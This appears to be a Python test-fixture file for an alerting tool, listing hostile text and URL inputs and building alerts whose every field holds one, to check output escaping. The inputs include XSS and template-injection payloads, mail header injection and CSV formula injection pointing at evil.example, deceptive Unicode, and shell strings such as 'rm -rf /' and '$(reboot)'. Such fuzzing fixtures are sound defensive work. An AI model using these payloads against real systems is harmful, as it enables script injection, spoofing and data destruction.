"""Texts and addresses that want to be more than text, and alerts full of them."""

from __future__ import annotations

from dataclasses import replace

from onrecord.model import Alert, Kind, Step, Told
from tests.alerts.samples import ENGLISH, MENTION

TEXTS = (
    # HTML
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</blockquote></div></body></html><h1>owned</h1>",
    "<!-- comment -->hidden<!--",
    "<![CDATA[ x ]]>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '"><iframe src="https://evil.example"></iframe>',
    "<a href=javascript:alert(1)>click</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p></form>",
    "&lt;script&gt;already escaped&lt;/script&gt;",
    "&#60;script&#62;",
    "&nbsp;&zwnj;&rlo;",
    "</title><script>alert(1)</script>",
    "</style><img src=https://evil.example/pixel.gif>",
    "<plaintext>",
    "<textarea>",
    "<bdo dir=rtl>backwards</bdo>",
    # templates
    "{{ 7*7 }}",
    "{% for x in ().__class__.__mro__ %}{% endfor %}",
    "{{ view.labels.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0} {group} {words.__class__}",
    "%s %(x)s %n",
    # Slack, and what imitates it
    "<!channel> <!here> <!everyone>",
    "<!subteam^S012345|team>",
    "<@U012AB3CD> <#C012AB3CD|general>",
    "@here @channel @everyone @all",
    "<https://evil.example|https://bank.example>",
    "https://evil.example/login",
    "*bold* _italic_ ~gone~ `code`",
    "```code block",
    "```\n<!channel>\n```",
    "*_~`|<>&",
    "> quoted by nobody\n> second line",
    "&lt;!channel&gt;",
    ":rotating_light: :skull:",
    "<!date^1392734382^Posted {date}|x>",
    # Markdown, Telegram
    "[click](https://evil.example)",
    "![x](https://evil.example/pixel.gif)",
    "# heading\n- item\n1. item",
    "||spoiler|| __x__ [u](tg://user?id=1)",
    # mail headers, SMTP
    "x\r\nBcc: victim@evil.example",
    "x\nSubject: other",
    "x\r\n\r\nnew body",
    "x\r\n.\r\nMAIL FROM:<a@evil.example>",
    ".\r\n",
    "=?utf-8?q?=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHg=?= =?x?y?z?=",
    "--===============\r\nContent-Type: text/html\r\n\r\n<script>",
    "x\x0bBcc: a@evil.example",
    "x\u2028Bcc: a@evil.example",
    "x\x85Bcc: a@evil.example",
    # control, invisible, reordering
    "\x00nul",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x9b31m",
    "back\x08\x08\x08space\x7f",
    "\u202egpj.exe",
    "a\u202eb\u202cc\u202ad",
    "\u2066x\u2067y\u2068z",
    "unbalanced \u2069\u2069\u2069\u202c end",
    "pay\u200b\u2060\ufeffload",
    "\u200f\u200e\u061c marks",
    "tags\U000e0061\U000e0062",
    "zalgo" + "\u0336\u0489" * 40,
    "lone \ud800 surrogate \udfff",
    "\ufffe\uffff noncharacters",
    "\ue000 private use",
    "ᅠㅤ blanks",
    # spreadsheets, shells, numbers
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3; rm -rf / #",
    "$(reboot) `reboot` && reboot",
    "NaN",
    "null",
    # length, emptiness
    " ",
    "word " * 3000,
    "x" * 9000,
    "ا" * 5000,
    "😀" * 2000,
)

URLS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://bank.example@evil.example/",
    "https://host.example/\r\nX-Injected: 1",
    'https://host.example/"onmouseover="alert(1)',
    "https://host.example/'onmouseover='alert(1)",
    "https://host.example/>|<!channel>",
    "https://host.example/|text",
    "https://host.example/<script>",
    "https://host.example/\u202e",
    "file:///etc/passwd",
    "//evil.example",
    "https://[bad",
    "https://host.example:99999999/",
    "https://host.example/{{7*7}}",
    "",
)


def statement(text: str) -> Alert:
    """An alert with two statements whose every free text is `text`."""
    steps = (Step("cue", text), Step(text, text))
    told = Told(
        statement_id=text,
        words=text,
        kind=Kind.DIRECT,
        cue=text,
        speaker=text,
        surface=f"the {text}",
        capacity=text,
        language=text,
        acts=(text,),
        reason=steps,
    )
    return replace(
        ENGLISH,
        watchlist=text,
        group_name=text,
        article=replace(ENGLISH.article, title=text, outlet=text, outlet_name=text, language=text),
        told=(told, replace(told, kind=Kind.INDIRECT, speaker=f"{text} junior")),
        notes=(text,),
    )


def mention(text: str) -> Alert:
    """An alert without statements whose every free text is `text`."""
    return replace(
        MENTION,
        watchlist=text,
        group_name=text,
        article=replace(MENTION.article, title=text, outlet=text, outlet_name=text, language=text),
        notes=(text,),
        reason=(Step("alias", text),),
        excerpt=text,
    )
